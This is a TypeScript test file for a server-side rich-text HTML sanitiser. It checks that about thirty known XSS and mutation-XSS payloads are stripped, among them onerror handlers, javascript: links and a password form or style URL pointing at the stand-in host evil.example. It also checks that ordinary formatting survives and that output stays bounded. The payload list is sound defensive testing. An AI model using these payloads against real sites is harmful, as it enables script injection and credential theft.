import fc from "fast-check";
import { describe, expect, test } from "vitest";
import {
  cleanHtml,
  htmlOfTyped,
  mostHtml,
  textOfHtml,
} from "#domain/administration/admin/clean-html.server.ts";

/** Known ways to run, load or connect (CVE-2021-28411, CVE-2022-48114 and others). */
const hostile = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.gif>",
  "<img src=//evil.example/pixel.gif>",
  "<img src=/\\evil.example/pixel.gif>",
  "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
  "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvA\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name=password></form>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  "<style>@import 'https://evil.example/x.css'</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<p class="sw-top bp6-overlay" id="content">x</p>',
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<textarea><script>alert(1)</script></textarea>",
  "<xmp><script>alert(1)</script></xmp>",
];
/** Never stored. */
const forbidden =
  /<(script|svg|math|iframe|object|embed|form|input|style|link|meta|base|template|textarea|xmp|noscript)|\son\w+\s*=|javascript:|data:|evil\.example\/|url\(|position:|expression|class="(?!ql-)|\sid=|srcdoc/i;

describe("rich text is sanitised on the server (security.md, input)", () => {
  test.each(hostile)("%s", (html) => {
    expect(cleanHtml(`<p>before</p>${html}<p>after</p>`)).not.toMatch(forbidden);
  });

  test("cleaning again changes no word: what is stored is cleaned once more on its way out", () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.constantFrom(...hostile, "<p>", "</p>", "text", "&lt;", "<b>", '"', "<", ">", "'"),
          { maxLength: 12 },
        ),
        (parts) => {
          const once = cleanHtml(`<p>${parts.join("")}</p>`);
          expect(once).not.toMatch(forbidden);
          expect(cleanHtml(once)).not.toMatch(forbidden);
          expect(textOfHtml(cleanHtml(once)).replaceAll(" ", "")).toBe(
            textOfHtml(once).replaceAll(" ", ""),
          );
        },
      ),
    );
  });

  test("what people write stays: headings, lists, tables, links, colours, pictures of our own", () => {
    const html =
      '<h3>标题</h3><ul><li><strong>一</strong></li></ul><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>' +
      '<p style="color:#ff0000;text-align:center">红</p><img src="/xhl-admin/profile/upload/a.png" alt="图" /><p class="ql-align-center">y</p>';
    expect(cleanHtml(html)).toBe(html);
    expect(cleanHtml('<a href="https://imo.org">IMO</a>')).toBe(
      '<a href="https://imo.org" target="_blank" rel="noopener noreferrer nofollow">IMO</a>',
    );
  });

  test("text without markup is text, whatever signs it has", () => {
    expect(htmlOfTyped("5 < 6 & 7 > 2\nsecond line\n\nnew part")).toBe(
      "<p>5 &lt; 6 &amp; 7 &gt; 2<br />second line</p><p>new part</p>",
    );
    expect(htmlOfTyped("<script>x</script>5 &lt; 6")).toBe("<p>5 &lt; 6</p>");
    expect(cleanHtml(htmlOfTyped("5 < 6"))).toBe("<p>5 &lt; 6</p>");
    expect(textOfHtml("<p>one</p><p>two<br />three</p>")).toBe("one two three");
  });

  test("a huge or deeply nested text is bounded", () => {
    expect(cleanHtml(`<p>${"x".repeat(3 * mostHtml)}</p>`).length).toBeLessThanOrEqual(
      mostHtml + 10,
    );
    const deep = cleanHtml("<div>".repeat(5000) + "x");
    expect((deep.match(/<div/g) ?? []).length).toBeLessThan(50);
  });
});
